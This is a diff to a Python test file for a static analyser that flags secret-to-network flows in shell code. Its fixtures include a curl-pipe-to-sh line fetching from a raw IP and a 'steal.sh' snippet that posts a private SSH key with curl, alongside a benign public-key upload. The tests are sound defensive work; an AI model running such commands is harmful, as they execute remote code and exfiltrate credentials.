@@ -89,3 +89,11 @@ def test_tsx_and_shell_strings_handed_to_exec() -> None:
     assert not flows.parser("tsx").parse(text.encode()).root_node.has_error
     assert strings == [(3, "curl -s http://203.0.113.4/x | sh")]
     assert [(f.rule, f.line) for f in found] == [("flow-secret-to-network", 5)]
+
+
+def test_a_key_path_used_only_for_its_public_half_is_no_flow() -> None:
+    key = 'key="$HOME/.ssh/id_ed25519"\ncurl -sS -X POST "https://git.team.example/keys" \\\n'
+    public = key + '  --data-urlencode "key=$(cat "$key.pub")"\n'
+    private = key + '  --data-urlencode "key=$(cat "$key")"\n'
+    assert flows.shell(public, "register.sh") == []
+    assert [f.rule for f in flows.shell(private, "steal.sh")] == ["flow-secret-to-network"]
